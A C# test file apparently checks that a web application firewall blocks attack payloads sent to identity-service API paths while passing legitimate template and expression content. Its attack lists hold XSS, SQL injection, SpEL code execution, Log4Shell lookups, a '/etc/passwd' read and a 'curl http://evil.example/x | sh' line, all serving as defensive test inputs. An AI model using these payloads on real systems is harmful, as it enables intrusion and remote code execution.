using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using Edge.Tests.Rules.Crs;
using Edge.Tests.TestKit;

namespace Edge.Tests.Functional;

/// <summary>What identity APIs carry passes the shipped rules, and attacks beside it do not: with the compact set and with the Core Rule Set.</summary>
public sealed class WafIdentityTests
{
    private const string Email = "/api/v1/brands/bnd1/templates/email/UserActivation/customizations/oel1";
    private const string Mail = """<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN"><html><head><meta http-equiv="Content-Type" content="text/html"><style type="text/css">b{margin:0}</style></head><body><p>Hi ${user.profile.firstName},</p><a id="x" href="${activationLink}" style="color:red">Activate</a>#if(${app.name})<b>${app.name}</b>#end</body></html>""";
    private const string Page = """<!DOCTYPE html><html><head>{{{SignInWidgetResources}}}</head><body><div id="c"></div>{{{OktaUtil}}}<script type="text/javascript" nonce="{{nonceValue}}">var config = OktaUtil.getSignInWidgetConfig(); new OktaSignIn(config).renderEl({ el: '#c' }, OktaUtil.completeLogin, function(error) { console.log(error.message); });</script></body></html>""";
    private const string Code = "exports.onExecutePostLogin = async (event, api) => { const axios = require('axios'); var fs = require('fs'); console.log(`hi ${event.user.name}`); process.env.X; };";

    /// <summary>Path, member (with dots: nested), value.</summary>
    private static readonly (string Path, string Member, string Value)[] Ordinary =
    [
        ("/api/v1/groups/rules", "conditions.expression.value", "user.department==\"Engineering\" AND String.stringContains(user.title, \"Manager\")"),
        ("/api/v1/mappings/prm1", "properties.fullName.expression", "user.firstName + \".\" + user.lastName"),
        ("/api/v1/mappings/prm1", "properties.login.expression", "String.substringBefore(user.email, \"@\") + \"@example.com\""),
        ("/api/v1/apps/0oa1", "credentials.userNameTemplate.template", "${source.login}"),
        ("/api/v1/apps", "credentials.userNameTemplate.template", "${fn:substringBefore(source.login, \"@\")}"),
        ("/api/v1/authorizationServers/aus1/claims", "value", "(user.department == 'IT') ? 'a' : user.getInternalProperty(\"id\")"),
        ("/api/v1/policies/p1/rules/r1", "conditions.elCondition.condition", "security.risk.level == 'HIGH' && device.profile.managed == true"),
        ("/api/v1/templates/sms", "template", "${org.name}: your verification code is ${code}"),
        (Email, "body", Mail),
        (Email + "?locale=en", "subject", "Welcome to ${org.name}, ${user.profile.firstName}!"),
        ("/api/v1/brands/bnd1/pages/sign-in/customized", "pageContent", Page),
        ("/api/v2/email-templates/verify_email", "body", Mail),
        ("/api/v2/branding/templates/universal-login", "template", Page),
        ("/api/v2/prompts/login/custom-text/en", "login.description", "Log in to ${clientName} <b>now</b>."),
        ("/api/v2/actions/actions", "code", Code),
        ("/api/v1/groups/g1", "profile.description", "Run `npm install` then `cat notes.txt | sort`; owners of `id` and `whoami`.\n\n```\necho hi\n```"),
        ("/api/v1/domains/d1/certificate", "certificate", "-----BEGIN CERTIFICATE-----\nMIIFNzCCBB+gAwIBAgITBAAd+/AAAA==\n-----END CERTIFICATE-----"),
        ("/api/v1/users/ann@example.com", "profile.login", "ann.o'brien@example.com"),
    ];

    private static readonly (string Path, string Member, string Value)[] Attacks =
    [
        (Email, "language", "<script>alert(1)</script>"),
        (Email, "language", "en' or 1=1--"),
        (Email, "subject", "<script>alert(1)</script>"),
        (Email, "body", "${jndi:ldap://evil.example/x}"),
        (Email + "/..%2f..%2fusers", "body", "<script>alert(1)</script>"),
        (Email + ";x=1", "body", "<script>alert(1)</script>"),
        ("/api/v1/brands/%62nd1/templates/email/UserActivation/customizations", "body", "<script>alert(1)</script>"),
        ("/api/v1/users", "body", "<script>alert(1)</script>"),
        ("/api/v1/mappings/prm1", "properties.x.expression", "T(java.lang.Runtime).getRuntime().exec('id')"),
        ("/api/v1/mappings/prm1", "properties.x.expression", "1' or 1=1--"),
        ("/api/v1/mappings/prm1", "properties.x.expression", "<script>alert(1)</script>"),
        ("/api/v1/mappings/prm1", "properties.x.name", "x;cat /etc/passwd"),
        ("/api/v2/actions/actions", "name", "x' or 1=1--"),
        ("/api/v1/groups/g1", "profile.description", "<script>alert(1)</script>"),
        ("/api/v1/groups/g1", "profile.name", "`id`; curl http://evil.example/x | sh"),
    ];

    private static readonly string[] OrdinaryPaths =
    [
        "/api/v1/users/O'Brien", "/api/v1/users/ann@example.com", "/api/v1/groups/R%26D%20or%20Sales", "/search/select%20all%20committees%20from%20the%20union",
        "/posts/it's-time-to-drop-table-manners", "/files/O'Reilly%20-%20SQL%20in%20a%20Nutshell%20(3rd%20ed.).pdf", "/wiki/Rock%20'n'%20Roll%20or%20Jazz",
        "/users/1-or-1/and/2", "/calc/1+1=2", "/api/v1/users/%22Ann%20Lee%22", "/api/v1/apps/0oa1/users/00u1--2", "/api/v1/users/J%C3%BCrgen%20%C5%BDi%C5%BEek",
    ];

    private static readonly string[] SqlPaths =
    [
        "/api/v1/users/1'%20or%20'1'='1", "/api/v1/users/1%20or%201=1", "/api/v1/users/1%20or%201=1/profile", "/users/-1%20union%20select%20a,b%20from%20c",
        "/users/1;drop%20table%20users--", "/users/1'--", "/users/1)%20or%20sleep(5)--", "/users/1%20and%20(select%201%20from%20x)=1", "/users/admin'%23",
        "/users/1%27%20AND%20SLEEP(5)%23/x", "/users/1'||(select%20password%20from%20users)||'", "/a/1/**/or/**/1=1", "/users/1%20or%202%3E1",
    ];

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Requests_OfIdentityServices_PassAndAttacksDoNot(bool withCrs)
    {
        await using TestGateway gateway = await StartAsync(withCrs);
        List<string> wrong = [];
        foreach ((string path, string member, string value) in Ordinary)
        {
            if (await PutAsync(gateway, path, member, value) == HttpStatusCode.Forbidden)
            {
                wrong.Add($"blocked: {path} {member} {value}");
            }
        }

        foreach ((string path, string member, string value) in Attacks)
        {
            if (await PutAsync(gateway, path, member, value) != HttpStatusCode.Forbidden)
            {
                wrong.Add($"passed: {path} {member} {value}");
            }
        }

        Assert.Empty(wrong);
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Sql_InThePath_IsBlockedAndOrdinaryPathsAreNot(bool withCrs)
    {
        await using TestGateway gateway = await StartAsync(withCrs);
        List<string> wrong = [];
        foreach (string path in OrdinaryPaths.Concat(SqlPaths))
        {
            string answer = await RawConnection.ExchangeAsync(gateway.Http!, $"GET {path} HTTP/1.1\r\nHost: acme.localhost\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: close\r\n\r\n");
            if (answer.StartsWith("HTTP/1.1 403", StringComparison.Ordinal) != SqlPaths.Contains(path))
            {
                wrong.Add($"{path}: {answer[..12]}");
            }
        }

        Assert.Empty(wrong);
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Log4jLookUp_InAHeader_IsBlocked(bool withCrs)
    {
        await using TestGateway gateway = await StartAsync(withCrs);
        string answer = await RawConnection.ExchangeAsync(gateway.Http!, "GET /echo HTTP/1.1\r\nHost: acme.localhost\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nX-Api-Version: ${${lower:j}ndi:ldap://a.example/b}\r\nConnection: close\r\n\r\n");
        Assert.StartsWith("HTTP/1.1 403", answer, StringComparison.Ordinal);
    }

    private static async Task<HttpStatusCode> PutAsync(TestGateway gateway, string path, string member, string value)
    {
        JsonNode body = JsonValue.Create(value)!;
        foreach (string name in member.Split('.').Reverse())
        {
            body = new JsonObject { [name] = body };
        }

        // Written out: HttpClient would resolve and decode what shall arrive as it is.
        string text = body.ToJsonString();
        string answer = await RawConnection.ExchangeAsync(gateway.Http!,
            $"PUT {path} HTTP/1.1\r\nHost: acme.localhost\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: application/json\r\nContent-Length: {Encoding.UTF8.GetByteCount(text)}\r\nConnection: close\r\n\r\n{text}");
        return (HttpStatusCode)int.Parse(answer.AsSpan(9, 3), null);
    }

    private static Task<TestGateway> StartAsync(bool withCrs)
    {
        if (withCrs && !Directory.Exists(CoreRuleSet.Folder))
        {
            Assert.Skip("The Core Rule Set (package modsecurity-crs) is not installed.");
        }

        string settings = withCrs ? $$"""{ "crs": "{{CoreRuleSet.Folder}}", "crsSetup": "{{Repository.PathOf("config", "rules", "crs-setup.conf")}}" }""" : "{}";
        return WafGateway.StartAsync(settings, change: static config => config.Edge["listen"]!["http"]!["mode"] = "serve");
    }
}
